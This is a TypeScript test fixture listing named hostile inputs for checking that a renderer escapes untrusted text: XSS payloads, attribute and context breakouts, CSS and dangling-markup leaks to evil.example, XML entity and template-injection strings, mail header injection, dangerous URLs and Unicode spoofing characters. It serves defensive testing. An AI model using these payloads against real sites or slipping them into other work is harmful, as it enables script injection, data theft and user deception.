/**
 * What a source may write to become more than text: each runs `pwned()`, asks evil.example for something, or breaks
 * out of its place, wherever one place forgets to escape it. Named, so that a failure says which.
 */

const RUN = "pwned()";
const AT = "https://evil.example";

/** Characters that editors hide: named here, and never written as themselves. */
const NUL = "\0";
const RLO = "\u202e";
const LRO = "\u202d";
const RLI = "\u2067";
const PDI = "\u2069";
const PDF = "\u202c";
const LINE = "\u2028";
const PARAGRAPH = "\u2029";
const ACUTE = "\u0301";
const ENCLOSING = "\u20dd";

const TAGS = {
  script: `<script>${RUN}</script>`,
  "script in capitals": `<ScRiPt>${RUN}</sCrIpT >`,
  "script split by a slash": `<script/x>${RUN}</script/>`,
  "script from elsewhere": `<script src=//evil.example/x.js></script>`,
  "module script": `<script type=module>import("${AT}/m.js")</script>`,
  "unclosed script": `<script>${RUN}//`,
  image: `<img src=x onerror=${RUN}>`,
  "image without spaces": `<img/src="x"/onerror="${RUN}">`,
  "image of elsewhere": `<img src="${AT}/pixel.gif" srcset="${AT}/2x.gif 2x">`,
  "unclosed image": `<img src=x onerror=${RUN} `,
  "double opening": `<<img src=x onerror=${RUN}>>`,
  "nested script": `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  iframe: `<iframe src="javascript:parent.${RUN}"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  object: `<object data="${AT}/x.svg"></object><embed src="${AT}/x.swf">`,
  base: `<base href="${AT}/">`,
  refresh: `<meta http-equiv=refresh content="0;url=${AT}/gone">`,
  "own policy": `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  form: `<form action="${AT}/steal" id=f><input name=q autofocus onfocus=${RUN}><button>Go</button></form><script>f.submit()</script>`,
  "form of another": `<button form=subscribe formaction="${AT}/steal">Subscribe</button>`,
  details: `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  "animated handler": `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart=${RUN}>x</b>`,
  "focused handler": `<a id=x tabindex=1 autofocus onfocus=${RUN}>x</a>`,
  video: `<video src=x onerror=${RUN}><source onerror=${RUN}></video><audio src=x onerror=${RUN}>`,
  "body handler": `<body onload=${RUN} onpageshow=${RUN} onhashchange=${RUN}>`,
  "dangling image": `<img src='${AT}/leak?`,
  "dangling style": `<style>@import'${AT}/leak?`,
  preload: `<link rel=preload as=image href="${AT}/p.gif"><link rel=stylesheet href="${AT}/s.css"><link rel=dns-prefetch href="//evil.example">`,
  "popover over all": `<div popover id=p onbeforetoggle=${RUN}>x</div><button popovertarget=p>Open</button>`,
};

const BREAKOUTS = {
  "out of a double quote": `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  "out of a single quote": `' onmouseover='${RUN}' autofocus onfocus='${RUN}' x='`,
  "out of no quote": `x onmouseover=${RUN} autofocus tabindex=1 onfocus=${RUN}`,
  "out of a backtick": "` onmouseover=pwned() x=`",
  "out of an attribute": `"><img src=x onerror=${RUN}>`,
  "out of an attribute by entity": `&quot;&gt;&lt;img src=x onerror=${RUN}&gt;`,
  "out of a title": `</title><script>${RUN}</script>`,
  "out of a textarea": `</textarea><img src=x onerror=${RUN}>`,
  "out of a style": `</style><img src=x onerror=${RUN}>`,
  "out of a script": `</script><script>${RUN}</script>`,
  "out of a script by a comment": `<!--<script>`,
  "out of a comment": `--><img src=x onerror=${RUN}>`,
  "out of a bad comment": `--!><img src=x onerror=${RUN}><!--`,
  "into a comment": `<!-- `,
  "out of a template": `</template><img src=x onerror=${RUN}>`,
  "out of a noscript": `</noscript><img src=x onerror=${RUN}>`,
  "out of its box": `</a></h2></li></ol></div></article></main><div style="position:fixed;inset:0;z-index:9999;background:red">gone</div>`,
  "out of a table": `</td></tr></tbody></table><img src=x onerror=${RUN}>`,
  "out of JSON": `"};${RUN};//`,
  "out of JSON-LD": `"}</script><script>${RUN}</script><script type="application/ld+json">{"x":"`,
  "out of a string of script": `\\";${RUN};//`,
  "line ends of script": `x${LINE}${RUN}${PARAGRAPH}${RUN}`,
  "template literal": "${pwned()}`;pwned()//",
  "out of CDATA": `]]><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script><![CDATA[`,
  "out of an item": `</content:encoded></item></channel></rss><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  "out of a paragraph": `]]></description><link>javascript:${RUN}</link>`,
};

const ENTITIES = {
  "escaped once": `&lt;script&gt;${RUN}&lt;/script&gt;`,
  "escaped twice": `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  "by numbers": `&#60;img src=x onerror=${RUN}&#62;`,
  "by long numbers": `&#x000003c;img src=x onerror=${RUN}&#x3E`,
  "without semicolons": `&lt&#115cript&gt${RUN}&lt/script&gt`,
  "by names": `&LessLess;img src=x onerror=${RUN}&gt; &nvlt;script&nvgt;`,
  "by percent": `%3Cscript%3E${RUN}%3C/script%3E`,
  "by full width": `＜script＞${RUN}＜/script＞ ＂ onfocus=${RUN}`,
  "by UTF-7": `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  "by overlong bytes": `\u00c0\u00bcscript\u00c0\u00be${RUN}`,
  "an entity of XML": `<!DOCTYPE x [<!ENTITY e SYSTEM "${AT}/e">]><x>&e;</x>`,
  "a million laughs": `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>&b;`,
  "a stylesheet of XML": `<?xml-stylesheet type="text/xsl" href="${AT}/x.xsl"?>`,
  "an instruction": `<?php system("id") ?><% eval(x) %>{{constructor.constructor('${RUN}')()}}`,
};

const NAMESPACES = {
  svg: `<svg onload=${RUN}><g onload=${RUN}></g></svg>`,
  "script of svg": `<svg><script href="data:text/javascript,${RUN}"/><script>${RUN}</script></svg>`,
  "link of svg": `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  "animated link": `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text y=20>x</text></a></svg>`,
  "used svg": `<svg><use href="data:image/svg+xml,&lt;svg id=x xmlns=http://www.w3.org/2000/svg&gt;&lt;script&gt;${RUN}&lt;/script&gt;&lt;/svg&gt;#x"/></svg>`,
  "foreign object": `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  "style of svg": `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  "math and mglyph": `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  "math and table": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  "math and annotation": `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  "noscript and title": `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  "select and template": `<select><template><img src=x onerror=${RUN}></template></select>`,
  "listing and pre": `<listing>&lt;img src=1 onerror=${RUN}&gt;</listing><xmp></xmp><img src=x onerror=${RUN}>`,
  "backtick of an old editor": "<img alt='`` onerror=pwned() src=x'>",
  "clobbered names": `<img name=body><form name=getElementById><input id=attributes></form><a id=main href="${AT}">x</a>`,
};

const STYLES = {
  "over everything": `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red">x</div>`,
  "hidden page": `<style>main,.masthead{display:none!important}body{background:url(${AT}/bg)}</style>`,
  expression: `<b style="width:expression(${RUN});behavior:url(${AT}/x.htc);-moz-binding:url(${AT}/x.xml#x)">x</b>`,
  import: `<style>@import url("${AT}/x.css");</style>`,
  "font of elsewhere": `<style>@font-face{font-family:x;src:url(${AT}/f)}*{font-family:x}</style>`,
  "out of a declaration": `red;} * { background: url(${AT}/bg) } @import "${AT}/x";`,
  "selector that reads": `<style>input[value^=a]{background:url(${AT}/a)}</style>`,
  "moved away": `<p style="margin:-9999px;transform:scale(99)">x</p>`,
};

const MARKDOWN = {
  link: `[x](javascript:${RUN})`,
  "link in angles": `[x](<javascript:${RUN}>)`,
  "link by entity": `[x](java&#115;cript&colon;${RUN})`,
  image: `![x](${AT}/pixel.gif) ![y][evil]`,
  "out of a link": `](javascript:${RUN}) [x`,
  "out of an address": `x) <img src=x onerror=${RUN}> (y`,
  autolink: `<javascript:${RUN}> <${AT}/auto>`,
  reference: `[x][evil]\n\n[evil]: javascript:${RUN}`,
  definition: `\n\n[evil]: ${AT}/ref "t"\n\n`,
  "block of HTML": `\n\n<div>\n<img src=x onerror=${RUN}>\n</div>\n\n`,
  fence: "```html\n<script>pwned()</script>\n```\n\n<script>pwned()</script>",
  "open fence": "~~~\n",
  "code span": "`` <img src=x onerror=pwned()> `",
  heading: `\n# A heading\n\n---\n\n* a list\n> a quotation\n\n===`,
  "front matter": `"\n---\n\n<script>${RUN}</script>\n\n---\ntitle: "x`,
  emphasis: `**a** *b* __c__ ***<img src=x onerror=${RUN}>*** ~~d~~`,
  "escaped escape": `\\<img src=x onerror=${RUN}\\> \\\\<b> \\`,
  shortcode: `{{< readfile "x" >}} {{% x %}} {% include x %} <!--more-->`,
  "torn bold": `**<img src=x** onerror=${RUN}**>**`,
  table: `| a | b |\n|---|---|\n| <img src=x onerror=${RUN}> | c |`,
  indented: `\n\n        <script>${RUN}</script>`,
};

const CHARACTERS = {
  "a NUL in a tag": `<scr${NUL}ipt>${RUN}</scr${NUL}ipt> <img src=x ${NUL}onerror=${RUN}>`,
  "controls of C0 and C1": `a\u0001\u0008\u000b\u000c\u001b[2J\u007f\u0085\u009bz<img\u000csrc=x\u000bonerror=${RUN}>`,
  "half a pair": `\ud83d <img src=x onerror=${RUN}> \ude00`,
  "no characters": `\uffff\ufffe\ufeff<script>${RUN}</script>`,
  "line ends of mail": `Hello\r\nBcc: victim@evil.example\r\nContent-Type: text/html\r\n\r\n<script>${RUN}</script>`,
  "folded line ends": `Hello\r\n Bcc: victim@evil.example\n\tX: y`,
  "encoded word": `=?utf-8?Q?=0D=0ABcc:_victim@evil.example?= =?utf-8?B?PHNjcmlwdD4=?=`,
  "a blank of the mail": `{{unsubscribe}} {{{preferences}}} https://unsubscribe.invalid/ {{ constructor }}`,
  "a text turned round": `${RLO}gnp.exe si siht${LRO} and on ${RLI}and${RLI} on`,
  "isolates closed": `${PDI}${PDI}${PDF}${PDI}${RLO}abc dna${PDI}${RLO}`,
  "isolates open": `${RLI.repeat(200)}x`,
  "right to left": `مرحبا بالعالم 123 (اختبار) ABC שלום עולם!`,
  "marks piled up": Array.from(
    "Zalgo",
    (letter) => letter + ACUTE.repeat(60) + "\u0489\u0316".repeat(20),
  ).join(""),
  "ten thousand marks": `a${ACUTE.repeat(10_000)}`,
  "marks that enclose": `a${ENCLOSING.repeat(300)}b`,
  "ten thousand letters": "W".repeat(10_000),
  "a word of joiners": `a${"\u2060\u200d".repeat(500)}b`,
  "no-break spaces": "wide\u00a0".repeat(500),
  "a broad character": "﷽".repeat(40) + "𒐫".repeat(40),
  "a family of families": "\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}\u200d".repeat(60),
  "a syllable of jamo": "\u1100".repeat(500),
  "a conjunct": `${"\u0915\u094d".repeat(500)}\u0915`,
  "hidden letters": `a${"\u{e0061}".repeat(300)}b`,
  "a thousand line ends": `top${"\n".repeat(1000)}bottom`,
  "tabs and feeds": `a${"\t".repeat(500)}b${"\f".repeat(50)}c`,
  "words of search": `"* OR NEAR( AND NOT tellings MATCH <mark onmouseover=${RUN}>pwned</mark>`,
  "marks of highlights": `\u0001\u0002\u0003[[[pwned]]] \ue000pwned\ue001 <b>pwned</b> «pwned»`,
};

const GROUPS = {
  tag: TAGS,
  breakout: BREAKOUTS,
  entity: ENTITIES,
  namespace: NAMESPACES,
  style: STYLES,
  markdown: MARKDOWN,
  character: CHARACTERS,
};

export type HostileText = { name: string; text: string };

export const HOSTILE_TEXTS: HostileText[] = Object.entries(GROUPS).flatMap(([group, texts]) =>
  Object.entries(texts).map(([name, text]) => ({ name: `${group}: ${name}`, text })),
);

/** What a source may give as an address. */
export const HOSTILE_URLS: string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` \u0001javascript:${RUN}`,
  `java\tscr\nipt:${RUN}`,
  `java&#10;script&colon;${RUN}`,
  `javascript://evil.example/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`,
  `vbscript:${RUN}`,
  `blob:${AT}/x`,
  `file:///etc/passwd`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `https:evil.example`,
  `https://good.example@evil.example/`,
  `https://user:secret@evil.example/x`,
  `https://good.example\\@evil.example/`,
  `https://xn--80ak6aa92e.com/ аррӏе`,
  `https://аррӏе.example/`,
  `https://evil.example/"onmouseover="${RUN}`,
  `https://evil.example/'onmouseover='${RUN}`,
  `https://evil.example/><img src=x onerror=${RUN}>`,
  `https://evil.example/)<img src=x onerror=${RUN}>`,
  `https://evil.example/](javascript:${RUN})`,
  `https://evil.example/?a=1&lt;b&quot;c&amp;d`,
  `https://evil.example/${RLO}moc.doog`,
  `https://evil.example/${"a".repeat(5000)}`,
  `https://evil.example/?{{unsubscribe}}`,
  `https://unsubscribe.invalid/`,
  `https://evil.example/\r\nSet-Cookie: a=b`,
  `https://[::1]:99999/`,
  `http://evil.example:80/`,
  `mailto:a@evil.example?bcc=b@evil.example&body=<script>`,
  ``,
];
